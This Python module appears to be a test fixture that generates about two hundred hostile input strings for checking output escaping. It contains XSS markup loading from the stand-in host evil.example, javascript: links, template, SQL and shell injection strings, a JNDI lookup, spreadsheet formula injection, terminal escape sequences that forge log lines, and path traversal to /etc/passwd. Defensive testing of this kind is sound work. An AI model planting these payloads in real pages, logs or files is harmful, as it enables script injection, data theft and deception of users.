"""Two hundred texts that somebody sends who wants more than to be read, made out of a few tables.

What a browser could make of one calls ``hacked`` or leaves an element with ``data-hostile``; what it could fetch is at
``evil.example``.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

_SCRIPT: Final = "window.hacked=1"

_MARKUP: Final = (
    "<script data-hostile>SCRIPT</script>",
    "<script data-hostile src=//evil.example/x.js></script>",
    "<img data-hostile src=x onerror=SCRIPT>",
    "<img data-hostile src=//evil.example/pixel>",
    "<svg data-hostile onload=SCRIPT>",
    "<svg data-hostile><script>SCRIPT</script></svg>",
    "<svg data-hostile><animate onbegin=SCRIPT attributeName=x dur=1s>",
    "<svg data-hostile><foreignObject><body onload=SCRIPT></foreignObject></svg>",
    "<math data-hostile><mtext><img src=x onerror=SCRIPT></math>",
    "<iframe data-hostile src=javascript:SCRIPT></iframe>",
    "<iframe data-hostile srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data-hostile data=//evil.example/x></object>",
    "<embed data-hostile src=//evil.example/x>",
    "<video data-hostile><source onerror=SCRIPT></video>",
    "<audio data-hostile src=x onerror=SCRIPT>",
    "<body data-hostile onload=SCRIPT>",
    "<details data-hostile open ontoggle=SCRIPT>",
    "<input data-hostile autofocus onfocus=SCRIPT>",
    "<marquee data-hostile onstart=SCRIPT>",
    "<link data-hostile rel=stylesheet href=//evil.example/x.css>",
    "<link data-hostile rel=prefetch href=//evil.example/x>",
    "<style data-hostile>body{display:none;background:url(//evil.example/x)}</style>",
    "<meta data-hostile http-equiv=refresh content='0;url=//evil.example/'>",
    "<base data-hostile href=//evil.example/>",
    "<form data-hostile action=//evil.example/><button autofocus>press</button></form>",
    "<a data-hostile href=javascript:SCRIPT>press</a>",
    "<template data-hostile><img src=x onerror=SCRIPT></template>",
    "<portal data-hostile src=//evil.example/>",
    "<dialog data-hostile open>sign in again</dialog>",
    "<x-hostile data-hostile contenteditable onfocus=SCRIPT autofocus>",
)
_AROUND: Final = ('"><HERE', "'>HERE", "</script>HERE", "</title></textarea>HERE", "<!--><HERE-->", "]]>HERE")

_LINKS: Final = (
    "javascript:SCRIPT",
    "JaVaScRiPt:SCRIPT",
    "java\tscript:SCRIPT",
    "\x01javascript:SCRIPT",
    "javascript&colon;SCRIPT",
    "data:text/html,<script>SCRIPT</script>",
    "vbscript:msgbox(1)",
    "https://evil.example/",
    "//evil.example/",
    "\\\\evil.example\\share",
    "https://127.0.0.1@evil.example/",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "https://ev\u0456l.example/",
    "/log/../../evil",
    "[press](javascript:SCRIPT)",
    "![pixel](https://evil.example/pixel)",
)

_TEMPLATES: Final = (
    "{{constructor.constructor('SCRIPT')()}}",
    "${SCRIPT}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% import os %}",
    "{{7*7}}",
    "[[${7*7}]]",
    "${jndi:ldap://evil.example/x}",
    "%s%s%s%n",
    "%(secret)s {0} {0.__class__}",
    "`id` $(id) ; id | id && id",
    "'; DROP TABLE entries; --",
    '" OR ""="',
    "\\x3cscript\\x3eSCRIPT\\x3c/script\\x3e",
    "&lt;img data-hostile src=x onerror=SCRIPT&gt;",
    "&#60;script data-hostile&#62;SCRIPT",
)

_CELLS: Final = (
    "=1+1",
    '=HYPERLINK("https://evil.example/","press")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    "a,b;c\td",
)

_ESCAPES: Final = (
    "\x1b[2J",
    "\x1b[1A\x1b[2K",
    "\x1b]0;owned\x07",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x1b]8;;https://evil.example/\x07press\x1b]8;;\x07",
    "\x1b[?1049h",
    "\x1b[6n",
    "\x1bP+q\x1b\\",
    "\x1bc",
    "\x9b2J",
    "\x9d0;owned\x9c",
    "a\rb",
    "a\nb",
    "a\r\n2026-11-22T10:00:00.000Z info governance_console: forged",
    "a\vb\fc",
    "a\bb",
    "\x07",
    "\x7f",
    "\x00",
    "a\x00b",
    "\x0e\x0f",
    "\x85",
)

_UNSEEN: Final = (
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",  # bidirectional controls
    *"\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u180e\u2028\u2029",  # no width, or no ink
    *"\ufff9\ufffc\ufffe\uffff\U000e0041\U000e007f\ue000\ufe0f",
)

_SCRIPTS: Final = (
    "\u05d0\u05d1\u05d2 abc \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "e" + "\u0301" * 200,
    "Z\u0351\u036b\u0343\u0334" * 20,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e007f",
    "\U0001f1e9\U0001f1ea" * 50,
    "\ufdfd\u102a\u1242b",
    "\u0430dmin",
    "\uff1cscript data-hostile\uff1e",
    "\ud83d",
    "\udc00",
    "a\ud800b",
)

_NAMES: Final = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "then",
    "length",
    "$$typeof",
    "dangerouslySetInnerHTML",
    "children",
    "key",
    "ref",
    "style",
    "onclick",
    "NaN",
    "null",
    "undefined",
    "true",
    "-0",
    "1e400",
    "",
    " ",
    "..",
    "../../etc/passwd",
    "CON",
)

_LONG: Final = ("x" * 50_000, "x " * 20_000, "<b data-hostile>" * 2_000, "\u202e" * 2_000, "\U0001f600" * 5_000)


def _every() -> Iterator[str]:
    for place, markup in enumerate(_MARKUP):
        yield markup
        yield _AROUND[place % len(_AROUND)].replace("HERE", markup)
    yield from (*_LINKS, *_TEMPLATES)


def payloads() -> tuple[str, ...]:
    """All of them, each once. Some have halves of surrogate pairs, and are no UTF-8."""
    written = [text.replace("SCRIPT", _SCRIPT) for text in _every()]
    unseen = [f"in{char}side" for char in _UNSEEN]
    return tuple(dict.fromkeys([*written, *_CELLS, *_ESCAPES, *unseen, *_SCRIPTS, *_NAMES, *_LONG]))


HOSTILE: Final = payloads()
